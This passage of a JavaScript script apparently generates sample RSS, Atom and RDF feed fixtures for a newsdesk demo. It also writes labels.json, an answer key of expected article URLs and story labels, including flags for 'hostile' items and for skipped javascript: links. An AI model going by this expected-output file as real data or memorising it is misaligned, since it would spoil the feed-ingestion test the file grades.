    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">',
    `  <channel rdf:about="${escapeXml(feed.url)}">`,
    `    <title>${escapeXml(feed.name)}</title>`,
    `    <link>${origin(feed)}/</link>`,
    "    <description>LWN.net headlines: sample news day for the newsdesk demo</description>",
    "    <items>",
    "      <rdf:Seq>",
    ...links,
    "      </rdf:Seq>",
    "    </items>",
    "  </channel>",
    ...items.map(entry),
    "</rdf:RDF>",
    "",
  ].join("\n");
}

function encode(feed, xml) {
  if (feed.encoding !== "ISO-8859-1") return Buffer.from(xml, "utf8");
  const bad = [...xml].find((ch) => ch.codePointAt(0) > 0xff);
  if (bad) throw new Error(`${feed.id}: "${bad}" cannot be written in ISO-8859-1; use a character reference`);
  return Buffer.from(xml, "latin1");
}

/** Feed order is newest first, as publishers emit it; undated items sit where the CMS put them. */
function newestFirst(items) {
  const time = (item) => (item.at === null ? Number.NEGATIVE_INFINITY : instant(item.at).getTime());
  return [...items].sort((a, b) => time(b) - time(a));
}

function render(feed, items) {
  const dated = items.filter((i) => i.at !== null && i.at !== FUTURE).map((i) => instant(i.at).getTime());
  const updated = new Date(Math.max(...dated));
  const ordered = newestFirst(items);
  if (feed.format === "atom") return atom(feed, ordered, updated);
  if (feed.format === "rdf") return rdf(feed, ordered);
  return rss2(feed, ordered, updated);
}

/**
 * The Article url the feed stage should produce (canonical: no www., relative links resolved against
 * the site), or null for an item it must skip (a javascript: link).
 */
function expectedUrl(feed, item) {
  const url = new URL(linkOf(feed, item), `${origin(feed)}/`);
  if (url.protocol !== "https:" && url.protocol !== "http:") return null;
  url.hostname = url.hostname.replace(/^www\./, "");
  return url.href;
}

const write = (path, data) => {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, data);
};

const manifest = [];
const labels = [];
for (const feed of FEEDS) {
  const first = feed.items.filter((i) => (i.wave ?? 1) === 1);
  const file = `${feed.id}.xml`;
  write(join(OUT, file), encode(feed, render(feed, first)));
  const hasLater = feed.items.some((i) => i.wave === 2);
  // A later/ file is the whole feed as it looks a few hours on (old items included), so swapping the
  // file in simulates a refresh: old items must dedupe, new ones must join their stories.
  if (hasLater) write(join(OUT, "later", file), encode(feed, render(feed, feed.items)));
  manifest.push({
    id: feed.id,
    name: feed.name,
    domain: feed.domain,
    url: feed.url,
    file,
    later: hasLater ? `later/${file}` : null,
    format: feed.format,
    encoding: feed.encoding ?? "UTF-8",
    image: feed.image,
    topics: feed.topics,
    quality: feed.quality,
  });
  for (const item of feed.items) {
    labels.push({
      feed: feed.id,
      story: item.story,
      wave: item.wave ?? 1,
      link: linkOf(feed, item),
      url: expectedUrl(feed, item),
      publishedAt: item.at === null ? null : iso(instant(item.at)),
      hostile: item.story.startsWith("h-") ? item.story.slice(2) : null,
    });
  }
}
write(join(OUT, "feeds.json"), `${JSON.stringify({ base: iso(new Date(BASE)), feeds: manifest }, null, 2)}\n`);
write(join(OUT, "labels.json"), `${JSON.stringify(labels, null, 2)}\n`);

const firstWave = labels.filter((l) => l.wave === 1).length;
console.log(`${FEEDS.length} feeds, ${firstWave} first-wave items, ${labels.length - firstWave} later items -> ${OUT}`);
